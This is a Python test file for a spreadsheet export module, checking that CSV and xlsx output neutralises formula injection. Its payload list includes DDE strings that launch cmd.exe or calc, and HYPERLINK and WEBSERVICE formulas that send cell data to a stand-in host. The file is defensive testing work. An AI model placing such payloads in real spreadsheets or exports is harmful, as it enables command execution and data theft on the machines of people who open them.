"""Whatever a cell holds, nobody's program computes it."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from core.rules import sheets
from core.rules.sheets import Heading, Table, is_formula, write_tables

SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u3000=",
    "\u00a0+",
    "\ufeff=",
    "|",
    "%",
)
BODIES = (
    "1+1", 'HYPERLINK("http://x/?"&A1,"a")', "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"\")", "SUM(A1:A9)",
    "WEBSERVICE(\"http://x\")", "IMPORTXML(\"http://x\",\"//a\")", "2+3+cmd|' /C notepad'!'A1'", "INDIRECT(\"A1\")",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''", "0,0\"\r\n=1+1", "'=1+1",
)  # fmt: skip
PAYLOADS = [sign + body for sign in SIGNS for body in BODIES][:200]


def written(file_format: str, cells: list[str]) -> bytes:
    out = io.BytesIO()
    table = Table("名单", [Heading("=1+1"), Heading("b")], [[cell, "x"] for cell in cells])
    mark = "张三 & 李四 · AAAA-BBBB-CCCC"
    number = write_tables(out, file_format, [table], code="AAAA-BBBB-CCCC", mark=mark)  # type: ignore[arg-type]
    assert number == len(cells)
    return out.getvalue()


def test_two_hundred_payloads_reopen_from_a_workbook_as_texts() -> None:
    assert len(set(PAYLOADS)) == 200
    data = written("xlsx", PAYLOADS)
    sheet = load_workbook(io.BytesIO(data)).active
    found = [sheet.cell(n, 1) for n in range(1, 202)]
    assert {cell.data_type for cell in found} == {"s"}
    assert all(cell.quotePrefix for cell in found)
    assert found[0].value == "=1+1"
    assert [unescape(cell.value) for cell in found[1:]] == PAYLOADS
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert b"<f>" not in parts["xl/worksheets/sheet1.xml"]
    assert not any("externalLink" in name for name in parts)


def test_two_hundred_payloads_reopen_from_a_csv_as_texts() -> None:
    rows = list(csv.reader(io.StringIO(written("csv", PAYLOADS).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[:-1]] == ["'=1+1", *("'" + one for one in PAYLOADS)]
    assert rows[-1] == ["名单 张三 & 李四 · AAAA-BBBB-CCCC"]


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_without_the_guard_the_payloads_are_formulas(monkeypatch: pytest.MonkeyPatch, file_format: str) -> None:
    """The control."""
    monkeypatch.setattr(sheets, "is_formula", lambda cell: False)
    data = written(file_format, PAYLOADS)
    if file_format == "csv":
        assert (
            sum(row[0].startswith("=") for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) == 13
        )
    else:
        assert not any(load_workbook(io.BytesIO(data)).active.cell(n, 1).quotePrefix for n in range(1, 202))


def test_plain_texts_stay_as_they_are() -> None:
    plain = ["王芳", "110105194912310021", "a=b", "2026-01-01", "", " 幸福路", "'quoted"]
    assert not any(is_formula(cell) for cell in plain)
    rows = list(csv.reader(io.StringIO(written("csv", plain).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:-1]] == plain


def test_a_workbook_carries_its_number_where_it_is_printed_and_where_it_is_not_seen() -> None:
    book = load_workbook(io.BytesIO(written("xlsx", ["a"])))
    assert book.custom_doc_props["cwms-export"].value == "AAAA-BBBB-CCCC"
    assert "AAAA-BBBB-CCCC" in book.active.oddFooter.left.text
    assert "AAAA-BBBB-CCCC" in book.active.oddHeader.right.text
